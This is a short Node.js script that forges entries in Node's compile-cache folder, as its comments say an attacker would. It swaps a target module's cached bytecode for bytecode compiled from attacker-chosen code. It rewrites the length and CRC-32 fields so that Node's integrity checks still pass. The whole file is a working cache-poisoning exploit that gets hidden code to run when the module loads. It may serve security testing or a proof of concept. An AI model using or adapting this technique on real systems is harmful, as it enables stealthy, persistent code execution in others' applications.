// Makes what an attacker would leave in a folder that Node takes its compile cache from: an entry for a module of ours,
// true in all that Node checks (length and CRC-32 of the source, CRC-32 of the code), whose bytecode is the attacker's.
// CODE is what stands at the top of the module: a function in it would be compiled from the true source.
//   node --experimental-vm-modules forge.mjs FOLDER MODULE CODE
// FOLDER holds a cache that Node wrote itself. Prints how many entries were forged.
import { readdirSync, readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { setFlagsFromString } from 'node:v8';
import { SourceTextModule } from 'node:vm';
import { crc32 } from 'node:zlib';

const [folder, module, code] = process.argv.slice(2);
setFlagsFromString('--heap-growing-percent=30'); // as bin/launch.cjs: V8 compares its flags
const source = readFileSync(module);
const ours = new SourceTextModule(code.padEnd(source.toString().length), { identifier: module });
const bytecode = ours.createCachedData();

// The entry: five numbers of 4 bytes (magic, length of the source, length of the code, CRC of the source, CRC of the
// code: node:src/compile_cache.cc), then the code.
const HEAD = 20;
let forged = 0;
for (const entry of readdirSync(folder, { recursive: true, withFileTypes: true })) {
  if (!entry.isFile()) continue;
  const file = join(entry.parentPath ?? entry.path, entry.name);
  const head = readFileSync(file).subarray(0, HEAD);
  if (head.readUInt32LE(4) !== source.length || head.readUInt32LE(12) !== crc32(source)) continue;
  head.writeUInt32LE(bytecode.length, 8);
  head.writeUInt32LE(crc32(bytecode), 16);
  writeFileSync(file, Buffer.concat([head, bytecode]));
  forged++;
}
console.log(forged);
